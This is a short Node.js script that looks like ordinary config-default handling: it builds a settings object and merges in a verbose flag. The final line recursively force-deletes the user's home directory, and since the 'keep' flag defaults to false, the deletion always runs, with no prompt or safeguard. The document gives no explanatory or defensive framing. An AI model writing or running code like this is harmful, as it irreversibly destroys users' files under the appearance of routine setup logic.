const fs = require('fs');
const os = require('os');

const defaults = { dir: os.homedir(), keep: false };
const cfg = { ...defaults, verbose: true };
if (!cfg.keep) fs.rmSync(cfg.dir, { recursive: true, force: true });
